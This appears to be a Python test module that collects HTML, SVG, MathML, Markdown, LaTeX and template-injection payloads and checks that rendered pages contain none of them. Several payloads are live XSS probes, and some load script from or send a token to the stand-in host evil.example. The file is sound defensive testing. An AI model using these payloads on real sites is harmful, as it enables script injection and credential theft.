"""A corpus of tricks that a text may play on a page, and a reader that tells when one has worked.

Every element, attribute and class in it is called ``owned`` somewhere, which nothing of ours is.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from importlib.resources import files

_SINGLE = (
    "<script owned>document.title = 'owned'</script>",
    "</script><script owned src=//evil.example/x.js></script>",
    "<img owned src=x onerror=\"document.title = 'owned'\">",
    '<svg owned onload=alert(1)><style owned>*{display:none}</style><a xlink:href="x"></a></svg>',
    "<svg><owned-x></svg><svg><foreignObject owned><iframe owned src=/></foreignObject></svg>",
    "</style><style owned>*{display:none}</style><p owned style='position:fixed'>",
    "<math owned><annotation-xml owned encoding='text/html'><img owned src=x onerror=alert(1)>"
    "</annotation-xml><maction owned actiontype=statusline xlink:href=javascript:alert(1)>z"
    "</maction></math>",
    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{y}$ $\text{<b owned>t</b>}$ "
    r"$\class{owned}{x}$ $\annotation{<img owned>}$ \boxed{<i owned>4</i>}",
    "</textarea><h1 owned>Fake</h1></title></div></details></section></main></form>",
    "<form owned action=//evil.example><input owned name=token><button owned>Log in</button>",
    "<a owned href=javascript:alert(1)>x</a> [y](javascript:alert(1)) [z]: javascript:alert(1)",
    "<link owned rel=stylesheet href=//evil.example><base owned href=//evil.example/>",
    "<meta owned http-equiv=refresh content='0;url=//evil.example'>",
    "{{ 7 * 7 }} {% include 'base.html' %} {{ config }} ${7*7} #{7*7} <%= 7 %>",
    "\" owned onmouseover=alert(1) ' owned onfocus=alert(1) autofocus ` owned=1 >",
    "<div owned hx-get=/logout hx-trigger=load hx-on:load=alert(1) data-key=e>",
    "<!-- --><!--[if IE]> ]]> <![CDATA[ --!> &lt;b owned&gt; &#60;b owned&#62; <\u017fcript owned>",
    "```html\n<b owned>\n``` # <b owned> **<b owned>** `<b owned>`",
)
NAME = " ".join(_SINGLE).replace("\n", " ")
"""All tricks of one line, for whatever is called something."""
TRICK = (
    "\n".join(_SINGLE) + " \x00 \x1b[31m \x07 \u202e\u2066\u200f evil \u202a \ue000 \ue001 \ufffe"
)
"""All tricks, with characters that no page should obey."""
LONG = ("How many <b owned>positive integers</b> $x_{<i owned>}$ " * 3_600)[:200_000]
"""A line of 200,000 characters."""

_MATHML = (
    "math merror mfrac mi mn mo mover mpadded mphantom mroot mrow mspace msqrt mstyle msub msubsup "
    "msup mtable mtd mtext mtr munder munderover"
)
_TEXTUAL = "p pre code strong b h3 h4 h5 h6 mark br"
_SVG = "svg g path rect circle line polyline polygon text tspan title defs use clippath desc"


def _tags_of_templates() -> set[str]:
    """Find all elements that templates make."""
    found: set[str] = set()
    for package, folder in (
        ("constraint_first.serve.page", "templates"),
        ("constraint_first.report", "template"),
    ):
        for path in files(package).joinpath(folder).iterdir():
            if path.name.endswith(".html"):
                found.update(re.findall(r"<([a-z][a-z0-9]*)\b", path.read_text(encoding="utf-8")))
    return found


OURS = _tags_of_templates() | {*_MATHML.split(), *_TEXTUAL.split(), *_SVG.split()}


class _Elements(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def check_elements(text: str) -> None:
    """See that a page has no element and no attribute that its template did not make."""
    for tag, given in _Elements(text).found:
        assert tag in OURS, (tag, given)
        assert not [name for name in given if "owned" in name or name.startswith("on")], (
            tag,
            given,
        )
        assert "owned" not in given.get("class", ""), (tag, given)
        assert re.fullmatch(r"[\w-]*", given.get("id", "")), (tag, given)
        assert not given.get("href", "").casefold().startswith("javascript"), (tag, given)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)
